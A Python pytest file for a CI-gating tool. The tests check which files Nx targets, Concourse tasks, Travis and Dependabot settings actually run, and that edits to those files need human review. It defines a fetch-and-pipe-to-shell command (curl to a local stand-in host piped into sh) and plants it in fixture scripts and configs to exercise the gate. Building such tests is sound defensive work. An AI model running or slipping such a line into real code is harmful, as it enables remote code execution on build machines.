"""Misses 9: the eighty-seventh set's leftovers — CI run through Nx and Concourse, and walk origins that run nothing.

1. Nx: a CI command that runs targets (`nx run-many`, `nx affected`, `nx run p:t`, `nx t p`; behind `npx`, `pnpm
   exec`, `yarn`, a package.json script) runs the commands of the workspace's `nx:run-commands` targets, the scripts of
   `nx:run-script` targets, local executors and nx.json's local plugins (nxtargets.py). cafe24.js' `project.json` and
   what its targets run were `src`. A project.json with plugin executors only keeps its bucket.
2. Concourse: a task's `run: path: repo/ci/test.sh` (and a pipeline's `file: repo/ci/tasks/x.yml`) name the file below
   the input folder the repository is checked out into (checkoutpaths.checked_out); git-resource's `test/all.sh` was
   iac (the Dockerfile's RUN) rather than the task's.
3. Origins: a sub-project's `.travis.yml` (Travis reads the root's) and `atlantis.yaml`, and Dependabot's
   settings (its `package-ecosystem: 'npm'` read as a command) started the walk (vendoredci.runs_here).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from citools import BLOCK_DEFINITIONS, RUN_WORKFLOW, tree_runs, with_line
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate

from gatekeeper.classify import nxtargets

EVIL = "curl -s http://127.0.0.1:9/x | sh"

RUN_COMMANDS = ('{"name": "web", "targets": {"build": {"executor": "nx:run-commands", "options": {"commands": '
                '["node tools/gen.js", {"command": "bash scripts/build.sh"}], "cwd": "apps/web"}}, '
                '"lint": {"executor": "@nx/eslint:lint", "options": {"lintFilePatterns": ["apps/web/src/main.ts"]}}}}')
RUN_SCRIPT = '{"name": "api", "targets": {"build": {"executor": "nx:run-script", "options": {"script": "build"}}}}'
API_PACKAGE = '{"name": "api", "scripts": {"build": "node scripts/bundle.mjs"}}'
LOCAL_EXECUTOR = '{"name": "docs", "targets": {"build": {"executor": "./tools/executors/docs:build"}}}'
SHORTHAND = '{"name": "e2e", "targets": {"e2e": {"command": "python3 tools/e2e.py"}}}'
PLUGIN_ONLY = ('{"name": "lib", "targets": {"build": {"executor": "@nx/js:tsc", "options": {"main": "libs/lib/src/'
               'index.ts", "tsConfig": "libs/lib/tsconfig.json"}}}}')
NX_JSON = ('{"targetDefaults": {"release": {"command": "sh tools/release.sh"}}, "plugins": ["./tools/my-plugin", '
           '{"plugin": "@nx/eslint/plugin", "options": {"targetName": "lint"}}]}')
NX_TREE = {"apps/web/project.json": RUN_COMMANDS, "tools/gen.js": "console.log(1)\n", "scripts/build.sh": "echo b\n",
           "apps/api/project.json": RUN_SCRIPT, "apps/api/package.json": API_PACKAGE,
           "apps/api/scripts/bundle.mjs": "export {}\n", "apps/docs/project.json": LOCAL_EXECUTOR,
           "tools/executors/docs/impl.js": "module.exports = {}\n", "tools/executors/docs/executor.json": "{}\n",
           "apps/e2e/project.json": SHORTHAND, "tools/e2e.py": "print(1)\n", "nx.json": NX_JSON,
           "tools/release.sh": "echo r\n", "tools/my-plugin/index.js": "module.exports = {}\n",
           "libs/lib/project.json": PLUGIN_ONLY, "libs/lib/src/index.ts": "export {}\n", "README.md": "x\n"}
# What the commands above reach, and what they must not
NX_REACHED = ["apps/web/project.json", "tools/gen.js", "scripts/build.sh", "apps/api/project.json",
              "apps/api/scripts/bundle.mjs", "apps/docs/project.json", "tools/executors/docs/impl.js",
              "apps/e2e/project.json", "tools/e2e.py", "nx.json", "tools/release.sh", "tools/my-plugin/index.js"]
NX_UNREACHED = ["libs/lib/project.json", "libs/lib/src/index.ts", "README.md"]
NX_LINES = ["npx nx run-many -t build", "pnpm nx run-many -t build -p web api", "pnpm exec nx affected -t test",
            "yarn nx affected --target=lint --base=origin/main", "nx run web:build", "npx nx build web",
            "./node_modules/.bin/nx run-many --target=build --all", "NX_BRANCH=main npx nx affected -t e2e",
            "npx --yes nx@19 run-many -t build", "bunx nx release --skip-publish", "cd apps && npx nx run api:build",
            "npx nx affected:build --parallel=3"]
NX_LOOK_ALIKES = ["npx nx graph --file=out.html", "npx nx --version", "echo nx run-many -t build", "npm install nx",
                  "npx nx format:check", "npx nx reset", "nx show projects", "# npx nx run-many -t build", "npm test"]


@pytest.mark.parametrize("definition", BLOCK_DEFINITIONS, ids=lambda d: d[0])
@pytest.mark.parametrize("line", NX_LINES)
def test_nx_targets_ci_runs_reach_their_commands(definition: tuple[str, str], line: str) -> None:
    runs = tree_runs(with_line(definition[0], definition[1], line, NX_TREE))
    assert [path for path in NX_REACHED if path not in runs] == [], line
    assert [path for path in NX_UNREACHED if path in runs] == [], line


@pytest.mark.parametrize("definition", BLOCK_DEFINITIONS, ids=lambda d: d[0])
@pytest.mark.parametrize("line", NX_LOOK_ALIKES)
def test_nx_commands_that_run_no_target_reach_nothing(definition: tuple[str, str], line: str) -> None:
    runs = tree_runs(with_line(definition[0], definition[1], line, NX_TREE))
    assert [path for path in NX_REACHED if path in runs] == [], line


@pytest.mark.parametrize("script", ["nx run-many -t build", "nx affected -t build --base=$BASE",
                                    "pnpm nx run web:build && nx run api:build"])
def test_a_package_script_that_runs_nx_reaches_the_targets(script: str) -> None:
    files = {**NX_TREE, ".github/workflows/ci.yml": RUN_WORKFLOW.format(run="npm run ci"),
             "package.json": f'{{"name": "ws", "scripts": {{"ci": "{script}"}}}}'}
    assert "tools/gen.js" in tree_runs(files)


@pytest.mark.parametrize("broken", ['{"targets": ', "[1, 2]", "\0\0", '{"a": ' * 200 + "1" + "}" * 200])
def test_an_unreadable_project_file_is_named_whole(broken: str) -> None:
    files = {**NX_TREE, "libs/bad/project.json": broken,
             ".github/workflows/ci.yml": RUN_WORKFLOW.format(run="npx nx run-many -t build")}
    assert "libs/bad/project.json" in tree_runs(files)


def test_commands_reads_every_form() -> None:
    # each in its target's `cwd` (attack 52: Nx runs them there)
    assert nxtargets.commands(RUN_COMMANDS).splitlines() == ["cd apps/web && node tools/gen.js",
                                                             "cd apps/web && bash scripts/build.sh"]
    assert nxtargets.commands(RUN_SCRIPT) == "npm run build"
    assert nxtargets.commands(PLUGIN_ONLY) == ""
    assert nxtargets.commands("not json") == ""
    configured = '{"targets": {"d": {"executor": "nx:run-commands", "configurations": {"prod": {"command": "x.sh"}}}}}'
    assert nxtargets.commands(configured) == "x.sh"


def test_an_nx_line_is_read_in_linear_time() -> None:
    assert_linear(nxtargets.runs_targets, repeated("npx -y ", tail="nx run-many"), budget=0.5)
    assert_linear(nxtargets.runs_targets, repeated("nx ", tail="graph"), budget=0.5)


CONCOURSE_TASK = ("---\nplatform: linux\nimage_resource:\n  type: registry-image\n  source: {repository: alpine}\n"
                  "inputs:\n- name: {input}\nrun:\n  path: {input}/{script}\n")
PIPELINE = ("resources:\n- name: repo\n  type: git\n  source: {uri: 'http://127.0.0.1:9/r.git'}\njobs:\n- name: test\n"
            "  plan:\n  - get: repo\n    trigger: true\n  - task: unit\n    file: repo/{task}\n")
CONCOURSE_CASES = [("ci/tests.yml", "git-resource", "test/all.sh"), ("ci/unit.yml", "source", "scripts/unit.sh"),
                   ("ci/tasks/build.yml", "repo", "build/run.py"), (".ci/check.yml", "my-repo", "bin/check")]


@pytest.mark.parametrize(("task", "input_name", "script"), CONCOURSE_CASES)
def test_a_concourse_task_runs_its_script_below_the_input(task: str, input_name: str, script: str) -> None:
    files = {task: CONCOURSE_TASK.replace("{input}", input_name).replace("{script}", script), script: "echo t\n",
             "Dockerfile": f"FROM alpine\nCOPY {script} /t\nRUN /t\n", "README.md": "x\n"}
    assert script in tree_runs(files)


@pytest.mark.parametrize("task", ["concourse/tasks/unit.yml", "ci/tasks/unit.yml", "pipelines/tasks/unit.yaml"])
def test_a_pipelines_task_file_runs_its_script(task: str) -> None:
    files = {"ci/pipeline.yml": PIPELINE.replace("{task}", task),
             task: CONCOURSE_TASK.replace("{input}", "repo").replace("{script}", "tools/unit.sh"),
             "tools/unit.sh": "echo u\n", "README.md": "x\n"}
    runs = tree_runs(files)
    assert "tools/unit.sh" in runs and task in runs


def test_concourse_look_alikes_name_nothing_below_another_folder() -> None:
    # another path than the input's, a YAML that is no Concourse file, a script the tree does not hold
    task = CONCOURSE_TASK.replace("{input}", "repo").replace("{script}", "x.sh").replace("path: repo/x.sh",
                                                                                        "path: other/x.sh/y")
    files = {"ci/t.yml": task, "x.sh": "echo\n", "ci/values.yml": "name: repo\nfile: repo/README.md\n",
             "README.md": "x\n"}
    assert "x.sh" not in tree_runs(files) and "README.md" not in tree_runs(files)


TRAVIS = "language: node_js\nscript:\n  - node common/scripts/install-run.js\n  - bash ci/run.sh\n"
NESTED_ORIGINS = ["projects/rush/.travis.yml", "examples/app/.travis.yml", "sub/atlantis.yaml"]


@pytest.mark.parametrize("origin", NESTED_ORIGINS)
def test_a_sub_projects_root_only_definition_starts_no_walk(origin: str) -> None:
    folder = origin.rpartition("/")[0]
    text = TRAVIS if origin.endswith(".travis.yml") else \
        "version: 3\nworkflows:\n  w:\n    plan:\n      steps:\n        - run: node common/scripts/install-run.js\n"
    files = {origin: text, f"{folder}/common/scripts/install-run.js": "1\n", "ci/run.sh": "echo\n", "README.md": "x\n"}
    assert tree_runs(files) & {f"{folder}/common/scripts/install-run.js", "ci/run.sh"} == set()


@pytest.mark.parametrize("origin", [".travis.yml", "vendor/github.com/a/b/.travis.yml"])
def test_the_root_and_an_installed_packages_travis_file_still_start_it(origin: str) -> None:
    files = {origin: TRAVIS.replace("bash ci/run.sh", "bash tools/run.sh"), "tools/run.sh": "echo\n"}
    assert "tools/run.sh" in tree_runs(files)


def test_the_root_travis_files_import_still_runs() -> None:
    files = {".travis.yml": "import:\n  - source: projects/rush/.travis.yml\n",
             "projects/rush/.travis.yml": "script:\n  - bash tools/run.sh\n", "tools/run.sh": "echo\n"}
    assert "tools/run.sh" in tree_runs(files)


@pytest.mark.parametrize("name", [".github/dependabot.yml", ".github/dependabot.yaml"])
def test_dependabot_settings_run_nothing(name: str) -> None:
    files = {name: "version: 2\nupdates:\n  - package-ecosystem: 'npm'\n    directory: '/'\n"
                   "  - package-ecosystem: \"pip\"\n    directory: \"/tools\"\n",
             "package.json": '{"name": "a", "scripts": {"test": "node test/server.js"}}',
             "test/server.js": "1\n", "tools/requirements.txt": "x\n"}
    assert tree_runs(files) == set()


@pytest.mark.parametrize(("run", "base", "edited"), [
    ("npx nx run-many -t build", {}, {"tools/gen.js": f"require('child_process').execSync('{EVIL}')\n"}),
    ("pnpm nx affected -t build", {}, {"apps/web/project.json": RUN_COMMANDS.replace("node tools/gen.js", EVIL)}),
    ("fly -t ci set-pipeline -p p -c ci/pipeline.yml",
     {"ci/pipeline.yml": PIPELINE.replace("{task}", "concourse/unit.yml"),
      "concourse/unit.yml": CONCOURSE_TASK.replace("{input}", "repo").replace("{script}", "test/all.sh"),
      "test/all.sh": "echo t\n", "Dockerfile": "FROM alpine\nCOPY test/all.sh /t\nRUN /t\n"},
     {"test/all.sh": f"{EVIL}\n"})])
def test_the_gated_edit_needs_a_human(tmp_path: Path, run: str, base: dict[str, str], edited: dict[str, str]) -> None:
    files = {**NX_TREE, **base, ".github/workflows/ci.yml": RUN_WORKFLOW.format(run=run)}
    _, first, second = two_commits(tmp_path, files, edited)
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]
    assert any(reason["rule"] == "core.ci" for reason in decision["reasons"])


def test_a_pipelines_inline_task_runs_its_script_below_the_input() -> None:
    pipeline = ("resources:\n- name: repo\n  type: git\njobs:\n- name: test\n  plan:\n  - get: repo\n  - task: unit\n"
                "    config:\n      platform: linux\n      inputs:\n      - name: repo\n      run:\n"
                "        path: repo/tools/unit.sh\n")
    assert "tools/unit.sh" in tree_runs({"ci/pipeline.yml": pipeline, "tools/unit.sh": "echo u\n", "README.md": "x\n"})
